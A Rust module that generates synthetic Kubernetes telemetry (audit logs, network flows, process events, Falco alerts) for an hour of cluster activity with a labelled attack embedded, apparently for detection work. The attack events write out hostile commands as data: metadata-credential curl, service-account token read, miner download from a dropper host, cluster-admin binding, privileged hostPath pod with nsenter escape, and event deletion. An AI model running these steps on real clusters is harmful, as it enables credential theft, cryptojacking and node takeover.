//! The incident scenario: an hour of ordinary cluster life with an attack in the middle,
//! seen from all three streams.
//!
//! The attack (all times 2026-11-20, UTC):
//! 1. 09:30 a stolen token of `system:serviceaccount:shop:api` is used from 203.0.113.66
//!    with curl: cluster-wide secret listing is forbidden, then the namespace's secrets
//!    are listed and `db-credentials` is read (RequestResponse: values in the log).
//! 2. 09:31 the attacker execs into `shop/api-7d9f8b6c5-x2k4p`.
//! 3. 09:31 a shell starts in the pod, curl reads the cloud metadata credentials
//!    (169.254.169.254), and the service-account token file is read.
//! 4. 09:33 a miner is downloaded to /tmp and run against a stratum pool on port 4444.
//! 5. 09:36 the identity binds itself to cluster-admin.
//! 6. 09:38 a privileged pod with hostPID, hostNetwork and a hostPath of / is created in
//!    kube-system, and nsenter breaks out to the node.
//! 7. 09:42 the namespace's events are deleted to cover tracks.

use chrono::{TimeZone, Utc};
use serde_json::json;

use crate::cluster::{self, Human, HUMANS, NODES, PODS, VICTIM_POD};
use crate::model::{ApiCall, Endpoint, FalcoAlert, Flow, Micros, ProcessEvent, ProcessKind};
use crate::rng::Rng;

const SECOND: Micros = 1_000_000;
const MINUTE: Micros = 60 * SECOND;

/// Everything that happens in the scenario, sorted by time within each stream.
#[derive(Debug, Clone)]
pub struct Scenario {
    pub api_calls: Vec<ApiCall>,
    pub flows: Vec<Flow>,
    pub processes: Vec<ProcessEvent>,
    pub alerts: Vec<FalcoAlert>,
}

/// 2026-11-20T09:00:00Z.
pub fn start_time() -> Micros {
    Utc.with_ymd_and_hms(2026, 11, 20, 9, 0, 0)
        .single()
        .map_or(0, |t| t.timestamp_micros())
}

impl Scenario {
    pub fn generate(seed: u64) -> Scenario {
        let mut s = Scenario {
            api_calls: Vec::new(),
            flows: Vec::new(),
            processes: Vec::new(),
            alerts: Vec::new(),
        };
        let mut rng = Rng::new(seed);
        let t0 = start_time();
        background(&mut s, &mut rng, t0);
        attack(&mut s, &mut rng, t0);
        s.api_calls.sort_by_key(|c| c.time);
        s.flows.sort_by_key(|f| f.time);
        s.processes.sort_by_key(|p| p.time);
        s.alerts.sort_by_key(|a| a.time);
        s
    }

    /// The attack steps in order, as labelled on the events.
    pub const STEPS: [&'static str; 7] = [
        "1-secret-theft",
        "2-exec-into-pod",
        "3-metadata-credential-theft",
        "4-cryptominer",
        "5-rbac-escalation",
        "6-privileged-pod-escape",
        "7-cover-tracks",
    ];
}

fn call(
    time: Micros,
    user: &str,
    groups: &[&str],
    ip: &str,
    agent: &str,
    rng: &mut Rng,
) -> ApiCall {
    ApiCall::new(time, rng.uuid(), user, groups, ip, agent)
}

fn pod_endpoint(i: usize) -> Endpoint {
    let p = &PODS[i];
    Endpoint {
        ip: p.ip.to_owned(),
        namespace: Some(p.namespace.to_owned()),
        pod: Some(p.name.to_owned()),
        labels: vec![
            format!("k8s:app={}", p.app),
            format!("k8s:io.kubernetes.pod.namespace={}", p.namespace),
            format!("k8s:io.cilium.k8s.policy.cluster={}", cluster::CLUSTER),
        ],
        identity: p.identity,
    }
}

fn world(ip: &str) -> Endpoint {
    Endpoint {
        ip: ip.to_owned(),
        labels: vec!["reserved:world".to_owned()],
        identity: 2,
        ..Endpoint::default()
    }
}

fn flow(
    time: Micros,
    src: Endpoint,
    dst: Endpoint,
    dst_port: i64,
    bytes: i64,
    node: usize,
    rng: &mut Rng,
) -> Flow {
    Flow {
        time,
        duration_secs: 1 + rng.below(20) as i64,
        src,
        dst,
        protocol: "TCP",
        src_port: 32768 + rng.below(28000) as i64,
        dst_port,
        bytes,
        packets: (bytes / 900).max(2),
        verdict: "FORWARDED",
        node,
        dns_query: None,
        attack_step: None,
    }
}

fn exec(
    time: Micros,
    pod: usize,
    binary: &str,
    arguments: &str,
    pid: i64,
    parent: (&str, &str, i64),
) -> ProcessEvent {
    ProcessEvent {
        time,
        pod,
        binary: binary.to_owned(),
        arguments: arguments.to_owned(),
        pid,
        parent_binary: parent.0.to_owned(),
        parent_arguments: parent.1.to_owned(),
        parent_pid: parent.2,
        kind: ProcessKind::Exec,
        attack_step: None,
    }
}

fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
    let node_groups = ["system:nodes", "system:authenticated"];
    for minute in 0..60 {
        let t = t0 + minute * MINUTE;
        // Kubelets: node status, pods bound to the node, and the secrets those pods mount.
        for node in NODES.iter() {
            let user = format!("system:node:{}", node.name);
            let agent = "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
            let mut c = call(
                t + rng.below(50 * SECOND as u64) as i64,
                &user,
                &node_groups,
                node.ip,
                agent,
                rng,
            );
            c.verb = "patch";
            c.resource = "nodes";
            c.subresource = Some("status");
            c.name = Some(node.name.to_owned());
            s.api_calls.push(c);
            let mut c = call(
                t + rng.below(50 * SECOND as u64) as i64,
                &user,
                &node_groups,
                node.ip,
                agent,
                rng,
            );
            c.verb = "list";
            c.resource = "pods";
            s.api_calls.push(c);
            if minute % 10 == 0 {
                let pod = PODS.iter().find(|p| NODES[p.node].name == node.name);
                if let Some(p) = pod {
                    let mut c = call(t + 55 * SECOND, &user, &node_groups, node.ip, agent, rng);
                    c.resource = "secrets";
                    c.namespace = Some(p.namespace.to_owned());
                    c.name = Some(format!("{}-token", p.service_account));
                    s.api_calls.push(c);
                }
            }
        }
        // Controllers: leases and endpoints, from the control plane.
        let mut c = call(
            t + 7 * SECOND,
            "system:kube-controller-manager",
            &["system:authenticated"],
            "10.0.0.10",
            "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a51b3b7/leader-election",
            rng,
        );
        c.verb = "update";
        c.resource = "leases";
        c.api_group = "coordination.k8s.io";
        c.namespace = Some("kube-system".to_owned());
        c.name = Some("kube-controller-manager".to_owned());
        s.api_calls.push(c);
        // People and CI.
        if minute % 3 == 0 {
            let human: &Human = rng.pick(&HUMANS);
            let mut c = call(
                t + 20 * SECOND + rng.below(30 * SECOND as u64) as i64,
                human.user,
                human.groups,
                human.ip,
                human.agent,
                rng,
            );
            let pod = &PODS[rng.below(3) as usize];
            c.namespace = Some(pod.namespace.to_owned());
            match rng.below(3) {
                0 => c.verb = "list",
                1 => {
                    c.name = Some(pod.name.to_owned());
                    c.subresource = Some("log");
                }
                _ => {
                    c.verb = "patch";
                    c.resource = "deployments";
                    c.api_group = "apps";
                    c.name = Some(pod.app.to_owned());
                    c.level = "Request";
                    c.request_object = Some(
                        json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": crate::render::rfc3339(t)}}}}}),
                    );
                }
            }
            s.api_calls.push(c);
        }
        // East-west traffic, DNS, scrapes, and a partner API.
        for half in 0..2 {
            let tt = t + half * 30 * SECOND + rng.below(10 * SECOND as u64) as i64;
            let f = flow(
                tt,
                pod_endpoint(0),
                pod_endpoint(1),
                8080,
                4_000 + rng.below(20_000) as i64,
                0,
                rng,
            );
            s.flows.push(f);
            let f = flow(
                tt + 200_000,
                pod_endpoint(1),
                pod_endpoint(2),
                5432,
                2_000 + rng.below(9_000) as i64,
                0,
                rng,
            );
            s.flows.push(f);
        }
        let mut dns = flow(
            t + 3 * SECOND,
            pod_endpoint(3),
            pod_endpoint(4),
            53,
            120,
            1,
            rng,
        );
        dns.protocol = "UDP";
        dns.dns_query = Some("api.partner-bank.example.".to_owned());
        s.flows.push(dns);
        let partner_ip = *rng.pick(&cluster::PARTNER_IPS[..]);
        let partner = world(partner_ip);
        let bytes = 9_000 + rng.below(40_000) as i64;
        let f = flow(t + 4 * SECOND, pod_endpoint(3), partner, 443, bytes, 1, rng);
        s.flows.push(f);
        let f = flow(
            t + 15 * SECOND,
            pod_endpoint(5),
            pod_endpoint(rng.below(4) as usize),
            9090,
            15_000,
            2,
            rng,
        );
        s.flows.push(f);
        if minute % 5 == 0 {
            let pid = 30_000 + minute * 7;
            let p = exec(
                t + 40 * SECOND,
                2,
                "/usr/bin/pg_isready",
                "-U postgres",
                pid,
                ("/bin/sh", "-c pg_isready -U postgres", pid - 1),
            );
            let mut exit = p.clone();
            exit.time += 80_000;
            exit.kind = ProcessKind::Exit { status: 0 };
            s.processes.push(p);
            s.processes.push(exit);
            let p = exec(
                t + 42 * SECOND,
                1,
                "/usr/local/bin/python",
                "manage.py clearsessions",
                pid + 3,
                ("/usr/local/bin/gunicorn", "api.wsgi -b 0.0.0.0:8080", 1),
            );
            s.processes.push(p);
        }
        if minute % 15 == 5 {
            s.alerts.push(FalcoAlert {
                time: t + 33 * SECOND,
                rule: "Contact K8S API Server From Container",
                priority: "Notice",
                pod: 5,
                cmdline: "prometheus --config.file=/etc/prometheus/prometheus.yml".to_owned(),
                process: "prometheus".to_owned(),
                parent: "containerd-shim".to_owned(),
                tags: vec!["container", "k8s", "network", "mitre_discovery", "T1565"],
                extra_fields: vec![("fd.name", json!("10.244.3.9:45872->10.96.0.1:443"))],
                message: "Unexpected connection to K8s API Server from container (connection=10.244.3.9:45872->10.96.0.1:443)".to_owned(),
                attack_step: None,
            });
        }
    }
}

fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
    let victim = &PODS[VICTIM_POD];
    let sa = format!(
        "system:serviceaccount:{}:{}",
        victim.namespace, victim.service_account
    );
    let sa_groups = [
        "system:serviceaccounts",
        "system:serviceaccounts:shop",
        "system:authenticated",
    ];
    let curl = "curl/8.4.0";
    let kubectl = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b";
    let ip = cluster::ATTACKER_IP;
    let at = |m: i64, sec: i64| t0 + m * MINUTE + sec * SECOND;

    // 1. Secret theft.
    let step = Some("1-secret-theft");
    let mut c = call(at(30, 5), &sa, &sa_groups, ip, curl, rng);
    c.verb = "list";
    c.resource = "secrets";
    c.code = 403;
    c.attack_step = step;
    s.api_calls.push(c);
    let mut c = call(at(30, 9), &sa, &sa_groups, ip, curl, rng);
    c.verb = "list";
    c.resource = "secrets";
    c.namespace = Some("shop".into());
    c.attack_step = step;
    s.api_calls.push(c);
    let mut c = call(at(30, 14), &sa, &sa_groups, ip, curl, rng);
    c.resource = "secrets";
    c.namespace = Some("shop".into());
    c.name = Some("db-credentials".into());
    c.level = "RequestResponse";
    c.response_object = Some(json!({
        "kind": "Secret", "apiVersion": "v1",
        "metadata": {"name": "db-credentials", "namespace": "shop", "uid": rng.uuid(),
            "annotations": {"kubectl.kubernetes.io/last-applied-configuration":
                json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db-credentials", "namespace": "shop"},
                       "data": {"password": "UzNjcjN0LVBhc3N3MHJkIQ==", "username": "c2hvcF9hcHA="}}).to_string()}},
        "type": "Opaque",
        "data": {"password": "UzNjcjN0LVBhc3N3MHJkIQ==", "username": "c2hvcF9hcHA="}
    }));
    c.attack_step = step;
    s.api_calls.push(c);

    // 2. Exec into the pod.
    let mut c = call(at(31, 2), &sa, &sa_groups, ip, kubectl, rng);
    c.verb = "create";
    c.namespace = Some(victim.namespace.into());
    c.name = Some(victim.name.into());
    c.subresource = Some("exec");
    c.code = 101;
    c.stage = "ResponseStarted";
    c.level = "Request";
    c.attack_step = Some("2-exec-into-pod");
    s.api_calls.push(c);

    // 3. Shell, metadata credentials, token file.
    let step = Some("3-metadata-credential-theft");
    let runc = (
        "/usr/bin/runc",
        "--root /run/containerd/runc/k8s.io exec",
        41_000,
    );
    let mut p = exec(at(31, 3), VICTIM_POD, "/bin/sh", "", 41_001, runc);
    p.attack_step = Some("2-exec-into-pod");
    s.processes.push(p);
    let shell = ("/bin/sh", "", 41_001);
    let mut p = exec(
        at(31, 20),
        VICTIM_POD,
        "/usr/bin/curl",
        "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role",
        41_010,
        shell,
    );
    p.attack_step = step;
    s.processes.push(p.clone());
    p.time += 20_000;
    p.kind = ProcessKind::Connect {
        dst_ip: cluster::METADATA_IP.into(),
        dst_port: 80,
    };
    s.processes.push(p);
    let mut f = flow(
        at(31, 20) + 30_000,
        pod_endpoint(VICTIM_POD),
        world(cluster::METADATA_IP),
        80,
        1_840,
        victim.node,
        rng,
    );
    f.attack_step = step;
    s.flows.push(f);
    let mut p = exec(
        at(31, 40),
        VICTIM_POD,
        "/bin/cat",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        41_020,
        shell,
    );
    p.attack_step = step;
    s.processes.push(p.clone());
    p.time += 5_000;
    p.kind = ProcessKind::FileRead {
        path: "/var/run/secrets/kubernetes.io/serviceaccount/token".into(),
    };
    s.processes.push(p);

    // 4. Miner: download, chmod, run, connect to the pool.
    let step = Some("4-cryptominer");
    let mut p = exec(
        at(33, 1),
        VICTIM_POD,
        "/usr/bin/wget",
        &format!("-q http://{}/xmrig -O /tmp/xmrig", cluster::DROPPER_IP),
        41_030,
        shell,
    );
    p.attack_step = step;
    s.processes.push(p);
    let mut f = flow(
        at(33, 1) + 40_000,
        pod_endpoint(VICTIM_POD),
        world(cluster::DROPPER_IP),
        80,
        2_841_112,
        victim.node,
        rng,
    );
    f.attack_step = step;
    s.flows.push(f);
    let mut p = exec(
        at(33, 9),
        VICTIM_POD,
        "/bin/chmod",
        "+x /tmp/xmrig",
        41_031,
        shell,
    );
    p.attack_step = step;
    s.processes.push(p);
    let miner_args = "-o stratum+tcp://pool.minexmr.example:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx --donate-level 1";
    let mut p = exec(
        at(33, 12),
        VICTIM_POD,
        "/tmp/xmrig",
        miner_args,
        41_032,
        shell,
    );
    p.attack_step = step;
    s.processes.push(p.clone());
    p.time += 300_000;
    p.kind = ProcessKind::Connect {
        dst_ip: cluster::POOL_IP.into(),
        dst_port: cluster::POOL_PORT,
    };
    s.processes.push(p);
    for i in 0..5 {
        let bytes = 180_000 + rng.below(40_000) as i64;
        let mut f = flow(
            at(33, 13) + i * MINUTE,
            pod_endpoint(VICTIM_POD),
            world(cluster::POOL_IP),
            cluster::POOL_PORT,
            bytes,
            victim.node,
            rng,
        );
        f.duration_secs = 60;
        f.attack_step = step;
        s.flows.push(f);
    }
    s.alerts.push(FalcoAlert {
        time: at(33, 12) + 2_000,
        rule: "Drop and execute new binary in container",
        priority: "Critical",
        pod: VICTIM_POD,
        cmdline: format!("xmrig {miner_args}"),
        process: "xmrig".into(),
        parent: "sh".into(),
        tags: vec![
            "container",
            "process",
            "mitre_persistence",
            "TA0003",
            "PCI_DSS_11.5.1",
        ],
        extra_fields: vec![
            ("proc.exepath", json!("/tmp/xmrig")),
            ("evt.arg.flags", json!("EXE_WRITABLE|EXE_UPPER_LAYER")),
        ],
        message: "Executing binary not part of base image (proc_exe=/tmp/xmrig user=root)".into(),
        attack_step: step,
    });
    s.alerts.push(FalcoAlert {
        time: at(33, 12) + 310_000,
        rule: "Detect outbound connections to common miner pool ports",
        priority: "Critical",
        pod: VICTIM_POD,
        cmdline: format!("xmrig {miner_args}"),
        process: "xmrig".into(),
        parent: "sh".into(),
        tags: vec!["host", "container", "network", "mitre_impact", "T1496"],
        extra_fields: vec![
            ("fd.sip", json!(cluster::POOL_IP)),
            ("fd.sport", json!(cluster::POOL_PORT)),
            ("fd.cip", json!(victim.ip)),
            ("fd.cport", json!(51_234)),
            ("fd.l4proto", json!("tcp")),
        ],
        message: format!(
            "Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={} port={})",
            cluster::POOL_IP,
            cluster::POOL_PORT
        ),
        attack_step: step,
    });

    // 5. RBAC escalation.
    let mut c = call(at(36, 0), &sa, &sa_groups, ip, kubectl, rng);
    c.verb = "create";
    c.resource = "clusterrolebindings";
    c.api_group = "rbac.authorization.k8s.io";
    c.name = Some("backup-operator".into());
    c.code = 201;
    c.level = "RequestResponse";
    let binding = json!({
        "kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "backup-operator"},
        "subjects": [{"kind": "ServiceAccount", "name": victim.service_account, "namespace": victim.namespace}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    });
    c.request_object = Some(binding.clone());
    c.response_object = Some(binding);
    c.attack_step = Some("5-rbac-escalation");
    s.api_calls.push(c);

    // 6. Privileged pod in kube-system, and the escape.
    let step = Some("6-privileged-pod-escape");
    let mut c = call(at(38, 0), &sa, &sa_groups, ip, kubectl, rng);
    c.verb = "create";
    c.namespace = Some("kube-system".into());
    c.name = Some("kube-proxy-debug".into());
    c.code = 201;
    c.level = "Request";
    c.request_object = Some(json!({
        "kind": "Pod", "apiVersion": "v1",
        "metadata": {"name": "kube-proxy-debug", "namespace": "kube-system"},
        "spec": {
            "hostPID": true, "hostNetwork": true,
            "containers": [{"name": "debug", "image": "docker.io/r00tkit/toolbox:latest",
                            "command": ["sleep", "infinity"],
                            "securityContext": {"privileged": true},
                            "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]
        }
    }));
    c.attack_step = step;
    s.api_calls.push(c);
    let mut c = call(at(38, 40), &sa, &sa_groups, ip, kubectl, rng);
    c.verb = "create";
    c.namespace = Some("kube-system".into());
    c.name = Some("kube-proxy-debug".into());
    c.subresource = Some("exec");
    c.code = 101;
    c.stage = "ResponseStarted";
    c.level = "Request";
    c.attack_step = step;
    s.api_calls.push(c);
    // The new pod is not in the cluster model's pod list: its runtime events are the
    // victim node's host-namespace processes, which Tetragon attributes to the pod it ran
    // from last; the samples keep them on the victim pod for simplicity of joins.
    let mut p = exec(
        at(38, 45),
        VICTIM_POD,
        "/usr/bin/nsenter",
        "-t 1 -m -u -n -i -p bash",
        41_050,
        ("/bin/sh", "", 41_049),
    );
    p.attack_step = step;
    s.processes.push(p);
    s.alerts.push(FalcoAlert {
        time: at(38, 45) + 3_000,
        rule: "Launch Privileged Container",
        priority: "Warning",
        pod: VICTIM_POD,
        cmdline: "nsenter -t 1 -m -u -n -i -p bash".into(),
        process: "nsenter".into(),
        parent: "sh".into(),
        tags: vec!["container", "cis", "mitre_privilege_escalation", "T1610"],
        extra_fields: vec![("container.privileged", json!(true))],
        message:
            "Privileged container started (user=root command=nsenter -t 1 -m -u -n -i -p bash)"
                .into(),
        attack_step: step,
    });

    // 7. Cover tracks.
    let mut c = call(at(42, 0), &sa, &sa_groups, ip, kubectl, rng);
    c.verb = "deletecollection";
    c.resource = "events";
    c.namespace = Some("shop".into());
    c.attack_step = Some("7-cover-tracks");
    s.api_calls.push(c);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_every_step_present() {
        let a = Scenario::generate(42);
        let b = Scenario::generate(42);
        assert_eq!(a.api_calls.len(), b.api_calls.len());
        assert_eq!(a.api_calls[17].audit_id, b.api_calls[17].audit_id);
        for step in Scenario::STEPS {
            let seen = a.api_calls.iter().any(|c| c.attack_step == Some(step))
                || a.processes.iter().any(|p| p.attack_step == Some(step));
            assert!(seen, "step {step} missing");
        }
        assert!(a
            .flows
            .iter()
            .any(|f| f.attack_step == Some("4-cryptominer")));
        assert!(a.api_calls.len() > 300 && a.flows.len() > 200);
    }
}
